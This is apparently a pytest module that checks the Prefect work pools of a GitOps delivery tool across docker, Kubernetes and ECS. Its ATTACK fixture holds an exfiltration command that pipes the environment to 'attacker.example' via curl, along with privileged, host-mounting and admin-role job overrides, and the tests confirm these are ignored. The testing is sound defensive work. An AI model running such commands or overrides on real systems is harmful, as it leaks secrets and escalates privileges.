"""Work pools of each type: a run in a container of a real engine, and what Prefect's own workers make of the others."""

import asyncio
import json
import subprocess
import sys
from collections.abc import Iterator
from logging import getLogger
from pathlib import Path
from typing import Any, TypeVar
from uuid import UUID

import boto3
import kubernetes_validate
import pytest
from moto import mock_aws
from prefect.client.orchestration import get_client
from prefect.client.schemas.objects import FlowRun
from prefect.deployments import run_deployment
from prefect.workers.base import BaseJobConfiguration
from prefect_aws.workers.ecs_worker import ECSJobConfiguration, ECSWorker
from prefect_kubernetes.worker import KubernetesWorkerJobConfiguration

from flows.setup.command import set_up
from flows.setup.deployments import prefect_yaml
from flows.setup.server_objects import HOME, RunEnvironment
from tasks.core.errors import InvalidInput
from tasks.core.names import Names
from tasks.core.settings import load
from tests.conftest import TOKEN
from tests.flows.conftest import PROJECT
from tests.sandbox.github import GitHub
from tests.sandbox.optional import optional
from tests.sandbox.prefect_server import PrefectServer, prefect_server, used
from tests.sandbox.registry import Registry
from tests.sandbox.repositories import log
from tests.sandbox.services import starts
from tests.sandbox.worker import worker
from tests.sandbox.worker_image import WorkerImage, worker_image
from tests.test_kubernetes import check_restricted

Configuration = TypeVar("Configuration", bound=BaseJobConfiguration)


@pytest.fixture(scope="module")
@starts("engine")
def image() -> Iterator[WorkerImage]:
    with optional(worker_image()) as built:
        yield built


@pytest.fixture(scope="module")
@starts("prefect")
def fresh(tmp_path_factory: pytest.TempPathFactory) -> Iterator[PrefectServer]:
    """A server whose pools have another type than those of ``served``."""
    with prefect_server(tmp_path_factory.mktemp("prefect")) as running, used(running):
        yield running


def test_the_image_has_the_tools_and_neither_root_nor_secrets(image: WorkerImage) -> None:
    tools = "git --version; docker buildx version; kubectl version --client; flowise-setup --help"
    said = image.run(f"id -u; {tools}; (touch x || python -m pip) 2>&1 || ls -A").splitlines()
    assert said[0] == "10001"
    for tool in ("git version 2", "github.com/docker/buildx", "Kustomize Version: v5", "usage: flowise-setup"):
        assert any(line.startswith(tool) for line in said), said
    assert "Permission denied" in said[-7]
    assert "No module named pip" in said[-6]
    assert said[-5:] == [".venv", "flows", "prefect.yaml", "pyproject.toml", "tasks"]


def test_a_run_in_a_container_writes_the_commit(
    image: WorkerImage,
    fresh: PrefectServer,
    hub: GitHub,
    images: Registry,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """It is a second application's, with deployments that ``flowise-setup`` has written."""
    settings = {
        "APPLICATION": "acme",
        "OVERLAYS_PATH": "argocd/apps/flowise/overlays",
        "WORK_POOL_TYPE": "docker",
        "WORKER_IMAGE": image.name,
        "WORK_POOL_OPTIONS": '{"image_pull_policy": "Never", "network_mode": "host"}',
        "GITHUB_API_URL": hub.url,
        "SOURCE_REPO": "acme/flowise",
        "GITOPS_REPO": "acme/devops",
        "GITOPS_TOKEN": TOKEN,
        "ECR_REGISTRY": images.host,
        "RENDER": "require",
    }
    for name, value in settings.items():
        monkeypatch.setenv(name, value)
    made = {row.name: row.outcome for row in set_up(load())}
    assert made["acme-build"] == made["acme-gitops"] == "created"
    for name in settings:
        monkeypatch.delenv(name)
    monkeypatch.setenv("DOCKER_HOST", image.engine)
    environment = {**fresh.environment(), "PATH": "/usr/bin:/bin", "DOCKER_HOST": image.engine}
    (tmp_path / "acme.yaml").write_text(prefect_yaml(Names("acme")))
    deploy = [sys.executable, "-m", "prefect", "--no-prompt", "deploy", "--prefect-file", str(tmp_path / "acme.yaml")]
    options: dict[str, Any] = {"cwd": PROJECT, "env": environment, "capture_output": True, "timeout": 120}
    subprocess.run([*deploy, "--name", "acme-update-flowise-deployment"], check=True, **options)
    with worker(environment, tmp_path / "worker.log", "acme-gitops"):
        run = run_deployment(
            "update-flowise-deployment/acme-update-flowise-deployment",
            parameters={"environment": "dev", "tag": "v9.0.0"},
            job_variables={"image": "attacker/image", "command": "true", "env": {"GITOPS_REPO": "attacker/devops"}},
            timeout=120,
            poll_interval=0.2,
            as_subflow=False,
        )
    assert run.state
    assert run.state.is_completed(), run.state.message + (tmp_path / "worker.log").read_text()
    assert log(hub.repositories["acme/devops"])[0]["subject"] == "chore(dev): update acme images to v9.0.0"
    assert "container" in (tmp_path / "worker.log").read_text()


ATTACK: dict[str, Any] = {
    "command": "sh -c 'env | curl --data @- attacker.example'",
    "env": {"GITOPS_REPO": "attacker/devops", "PATH": "/attacker"},
    "env.GITOPS_REPO": "attacker/devops",
    "image": "attacker/image",
    "job_manifest": {"spec": {}},
    "namespace": "kube-system",
    "privileged": True,
    "prefect.blocks.flowise-run-environment.kube-build": {"GITOPS_REPO": "attacker/devops"},
    "service_account_name": "admin",
    "task_definition": {},
    "task_role_arn": "arn:aws:iam::111122223333:role/admin",
    "volumes": ["/:/host"],
}
"""Job variables of a person who may start runs; none of them may have an effect."""


def pools(kind: str, application: str, options: dict[str, Any], monkeypatch: pytest.MonkeyPatch) -> None:
    """Set up the pools of another application."""
    settings = {"APPLICATION": application, "WORK_POOL_TYPE": kind, "WORKER_IMAGE": "registry.example.com/worker:1"}
    for name, value in {**settings, "GITOPS_REPO": "acme/devops", "WORK_POOL_OPTIONS": json.dumps(options)}.items():
        monkeypatch.setenv(name, value)
    assert {row.outcome for row in set_up(load()) if row.kind == "work pool"} == {"created"}


def configured(kind: type[Configuration], pool: str, values: dict[str, Any]) -> Configuration:
    """What a worker of this pool makes of its template for a run."""

    async def resolve() -> Configuration:
        async with get_client() as client:
            template = (await client.read_work_pool(pool)).base_job_template
            found: Configuration = await kind.from_template_and_values(template, values, client=client)
        found.prepare_for_flow_run(FlowRun(id=UUID(int=7), flow_id=UUID(int=8), name="dev v1"))
        return found

    return asyncio.run(resolve())


def test_prefect_makes_jobs_that_kubernetes_takes(fresh: PrefectServer, monkeypatch: pytest.MonkeyPatch) -> None:
    pod = {"nodeSelector": {"pool": "{pool}"}, "containers": [{"resources": {"limits": {"memory": "8Gi"}}}]}
    pools("kubernetes", "kube", {"job_manifest": {"spec": {"template": {"spec": pod}}}}, monkeypatch)
    for pool in ("kube-build", "kube-gitops"):
        check_job(pool)


def check_job(pool: str) -> None:
    found, attacked = (configured(KubernetesWorkerJobConfiguration, pool, values) for values in ({}, ATTACK))
    assert attacked == found
    assert found.namespace == "kube-delivery"
    job = found.job_manifest
    pod = job["spec"]["template"]["spec"]
    assert (pod.pop("parallelism"), pod.pop("completions")) == (1, 1)  # Prefect wants them there, Kubernetes doesn't
    kubernetes_validate.validate(job, kubernetes_validate.latest_version(), strict=True)
    (container,) = pod["containers"]
    assert (container["image"], container["args"]) == (
        "registry.example.com/worker:1",
        ["prefect", "flow-run", "execute"],
    )
    environment = {each["name"]: each["value"] for each in container["env"]}
    assert environment["GITOPS_REPO"] == "acme/devops"
    assert (environment["APPLICATION"], environment["PREFECT__FLOW_RUN_ID"]) == ("kube", str(UUID(int=7)))
    assert environment["PREFECT_HOME"].startswith("/home/delivery/")
    assert container["resources"]["limits"] == {"memory": "8Gi"}
    assert pod["nodeSelector"] == {"pool": pool}
    assert pod["serviceAccountName"] == pool
    assert pod["automountServiceAccountToken"] is False
    assert container["envFrom"] == [{"secretRef": {"name": pool, "optional": True}}]
    assert ("buildkit-certs" in [each["name"] for each in pod["volumes"]]) == (pool == "kube-build")
    assert job["spec"]["template"]["metadata"]["labels"]["app.kubernetes.io/component"] == pool
    check_restricted(pod)


@mock_aws
def test_prefect_registers_and_runs_a_task_at_ecs(fresh: PrefectServer, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"):
        monkeypatch.setenv(name, "testing")
    monkeypatch.setenv("AWS_DEFAULT_REGION", "eu-central-1")
    ecs, ec2 = boto3.client("ecs"), boto3.client("ec2")
    ecs.create_cluster(clusterName="delivery")
    network = ec2.create_vpc(CidrBlock="10.0.0.0/16")["Vpc"]["VpcId"]
    ec2.modify_vpc_attribute(VpcId=network, EnableDnsHostnames={"Value": True})  # moto reads the name
    subnet = ec2.create_subnet(VpcId=network, CidrBlock="10.0.1.0/24")["Subnet"]["SubnetId"]
    group = ec2.create_security_group(VpcId=network, GroupName="delivery", Description="delivery")["GroupId"]
    interface = {"subnets": [subnet], "securityGroups": [group], "assignPublicIp": "DISABLED"}
    secret = {"name": "ARGOCD_AUTH_TOKEN", "valueFrom": "arn:aws:secretsmanager:eu-central-1:111122223333:secret:argo"}
    role = "arn:aws:iam::111122223333:role/"
    pools(
        "ecs",
        "tasks",
        {
            "cluster": "delivery",
            "vpc_id": network,
            "network_configuration": interface,
            "execution_role_arn": f"{role}execution",
            "task_definition": {
                "executionRoleArn": f"{role}execution",
                "taskRoleArn": f"{role}{{pool}}",
                "containerDefinitions": [{"secrets": [secret], "memoryReservation": 512}],  # moto wants a number
            },
        },
        monkeypatch,
    )
    found, attacked = (configured(ECSJobConfiguration, "tasks-gitops", values) for values in ({}, ATTACK))
    assert attacked == found
    worker, run = ECSWorker("tasks-gitops"), FlowRun(id=UUID(int=7), flow_id=UUID(int=8), name="dev v1")
    for _ in range(2):
        task, *_ = worker._prepare_and_create_task(getLogger("ecs"), ecs, found, run)
    (definition,) = ecs.list_task_definitions(familyPrefix="tasks-gitops")["taskDefinitionArns"]
    registered = ecs.describe_task_definition(taskDefinition=definition)["taskDefinition"]
    (container,) = registered["containerDefinitions"]
    assert registered["taskRoleArn"] == f"{role}tasks-gitops"
    assert container["secrets"] == [secret]
    assert container["image"] == "registry.example.com/worker:1"
    (started,) = ecs.describe_tasks(cluster="delivery", tasks=[task])["tasks"]
    (override,) = started["overrides"]["containerOverrides"]
    assert override["command"] == ["prefect", "flow-run", "execute"]
    environment = {each["name"]: each["value"] for each in override["environment"]}
    assert (environment["GITOPS_REPO"], environment["APPLICATION"]) == ("acme/devops", "tasks")
    assert "attacker" not in json.dumps(override)


def test_a_pool_of_containers_needs_an_image(fresh: PrefectServer, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("WORK_POOL_TYPE", "kubernetes")
    with pytest.raises(InvalidInput, match="WORKER_IMAGE is not set"):
        list(set_up(load()))


def test_processes_have_nothing_left_of_containers(fresh: PrefectServer, monkeypatch: pytest.MonkeyPatch) -> None:
    pools("docker", "moved", {}, monkeypatch)
    assert RunEnvironment.load("moved-gitops").value["PREFECT_HOME"].startswith(HOME)
    monkeypatch.setenv("WORK_POOL_TYPE", "process")
    assert {row.outcome for row in set_up(load()) if row.kind == "work pool"} == {
        "left alone: its type is docker, not process"
    }
    assert "PREFECT_HOME" not in RunEnvironment.load("moved-gitops").value
